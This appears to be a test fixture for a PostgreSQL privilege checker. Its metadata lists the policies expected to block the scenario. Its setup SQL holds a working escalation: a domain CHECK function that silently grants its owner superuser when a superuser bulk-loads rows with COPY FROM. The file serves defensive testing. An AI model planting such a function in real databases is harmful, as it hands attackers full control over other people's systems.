/*---
title: COPY FROM into a column of another role's domain
pattern: Trojan domain CHECK evaluated by COPY FROM (CVE-2020-25695 family)
description: >
  mallory publishes the domain mallory.postal_code with CHECK (mallory.valid_postcode(VALUE)).
  alice, a superuser, uses it in her own table app.addresses and bulk-loads addresses with
  COPY FROM. COPY converts each field through the domain's input, which evaluates the
  constraint: mallory's function runs with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: domain_constraint, object: domain mallory.postal_code check five_digits, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
CREATE SCHEMA app AUTHORIZATION alice;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.valid_postcode(text) RETURNS boolean
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN $1 ~ '^[0-9]{5}$';
END $$;
CREATE DOMAIN mallory.postal_code AS text CONSTRAINT five_digits CHECK (mallory.valid_postcode(VALUE));
RESET ROLE;
SET ROLE alice;
CREATE TABLE app.addresses (id integer PRIMARY KEY, city text NOT NULL, postcode mallory.postal_code NOT NULL);
RESET ROLE;

-- @step alice
COPY app.addresses (id, city, postcode) FROM STDIN WITH (FORMAT csv);
1,Lyon,69001
2,Nantes,44000
\.
